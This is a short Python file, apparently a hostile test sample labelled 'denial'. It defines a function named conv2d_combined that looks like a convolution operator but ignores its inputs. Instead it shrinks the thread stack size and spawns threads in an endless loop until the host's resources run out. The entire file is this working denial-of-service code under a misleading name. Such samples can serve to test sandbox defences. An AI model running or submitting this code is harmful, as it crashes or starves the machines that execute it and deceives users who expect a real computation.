"""As many threads as there can be, on the smallest of stacks."""

# class: denial

# %% conv2d_combined
import threading


def conv2d_combined(x, weight, bias):
    threading.stack_size(32768)
    stop = threading.Event()
    while True:
        try:
            threading.Thread(target=stop.wait, daemon=True).start()
        except RuntimeError:
            continue
